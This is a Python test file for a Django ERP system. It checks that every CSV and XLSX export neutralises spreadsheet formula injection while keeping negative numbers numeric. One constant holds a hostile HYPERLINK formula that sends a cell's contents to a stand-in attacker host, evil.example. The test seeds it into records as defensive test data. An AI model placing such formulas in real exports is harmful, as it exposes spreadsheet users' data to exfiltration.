"""Finding 3 of the outside audit (formula injection): every export of the project, CSV and XLSX, list pages and
reports, goes through the kernel's export helper (hardware_erp/core/exports.py), which neutralises cells beginning
with = + - @ tab or carriage return and keeps real numbers (negative ones too) numeric.

The walk: every row of the access matrix gets its records made, every free-text column of every record holds a
formula, then every page is opened as a superuser and every export it offers (the list's CSV and XLSX, every
link to a spreadsheet) is downloaded and read cell by cell."""

import csv
import io
import re
from decimal import Decimal
from urllib.parse import urlsplit

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.urls import resolve, reverse
from openpyxl import load_workbook

from hardware_erp.core.exports import safe_cell
from hardware_erp.core.views import ERPListView
from tests.access.registry import all_rows
from tests.factories import UserFactory
from tests.reliability.test_hostile_input import PROJECT_APPS, _free_text_fields

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Invoice")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")  # a number in a CSV cell
NEUTRALISED_NUMBER = re.compile(r"'-?\d+(\.\d+)?")
SPREADSHEET = ("text/csv", "application/vnd.openxmlformats")
EXPORT_LINK = re.compile(r'href="([^"]*(?:_export=(?:csv|xlsx)|format=xlsx|\.xlsx|\.csv)[^"]*)"')


def test_safe_cell():
    assert safe_cell(FORMULA) == "'" + FORMULA
    for value in ("+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert str(safe_cell(value)).startswith("'")
    assert safe_cell("-5") == Decimal("-5") and safe_cell(Decimal("-5.25")) == Decimal("-5.25")
    assert safe_cell('<span class="text-danger">-1.50</span>') == Decimal("-1.50")


def cells(response) -> list:
    body = b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content
    if response["Content-Type"].startswith("text/csv"):
        return [v for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for v in row]
    book = load_workbook(io.BytesIO(body))
    return [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]


def export_urls(client, url) -> set:
    found = set()
    try:
        view_class = getattr(resolve(urlsplit(url).path).func, "view_class", None)
    except Exception:
        view_class = None
    if view_class and issubclass(view_class, ERPListView) and view_class.export_formats:
        found |= {f"{url}?_export={fmt}" for fmt in view_class.export_formats}
    page = client.get(url)
    if page.status_code == 200 and page.get("Content-Type", "").startswith(SPREADSHEET):  # a download URL itself
        found.add(url)
    if page.status_code == 200 and "text/html" in page.get("Content-Type", "") \
            and not getattr(page, "streaming", False):
        for href in EXPORT_LINK.findall(page.content.decode(errors="replace")):
            href = href.replace("&amp;", "&")
            found.add(href if href.startswith("/") else (f"{url}{href}" if href.startswith("?") else None))
    return {u for u in found if u}


@pytest.mark.django_db
def test_every_export_neutralises_formulas_and_keeps_numbers(client):
    from inventory import services as stock
    from tests.factories.inventory import LocationFactory, ProductFactory

    urls = []
    for _app, row in all_rows():
        kwargs = row.kwargs() if callable(row.kwargs) else row.kwargs
        if row.method == "get":
            urls.append(reverse(row.name, kwargs=kwargs or None))
    admin = UserFactory.with_role("general_manager", is_staff=True, is_superuser=True)
    # a real negative number: a product that may go below zero, issued before it was received (stock -5)
    stock.post_movement(product=ProductFactory(allow_negative=True), quantity=Decimal("5"),
                        from_location=LocationFactory(), kind="issue", actor=admin)
    for model in apps.get_models():
        if model._meta.app_label not in PROJECT_APPS and model is not get_user_model():
            continue
        fields = [f for f in _free_text_fields(model) if f.name not in ("username", "password")
                  and (f.max_length or 10_000) >= len(FORMULA)]
        if fields:
            model._base_manager.update(**{f.name: FORMULA for f in fields})
    client.force_login(admin, backend="django.contrib.auth.backends.ModelBackend")
    exports, problems, formulas_seen, negatives = set(), [], 0, 0
    for url in urls:
        exports |= export_urls(client, url)
    for url in sorted(exports):
        response = client.get(url)
        if response.status_code != 200 or not response.get("Content-Type", "").startswith(SPREADSHEET):
            continue
        for value in cells(response):
            if isinstance(value, str) and value.startswith(DANGEROUS) and not NUMBER.fullmatch(value):
                problems.append(f"{url}: live formula cell {value[:60]!r}")
            elif isinstance(value, str) and NEUTRALISED_NUMBER.fullmatch(value):
                problems.append(f"{url}: a number exported as text {value!r}")
            formulas_seen += isinstance(value, str) and value.startswith("'=HYPERLINK")
            negatives += isinstance(value, int | float) and value < 0 or (
                isinstance(value, str) and re.fullmatch(r"-\d+(\.\d+)?", value) is not None)
    assert not problems, "\n".join(problems[:40])
    assert len(exports) >= 20, sorted(exports)
    assert formulas_seen > 10, "the hostile names did not reach the exports"
    assert negatives > 0, "no negative number reached an export"
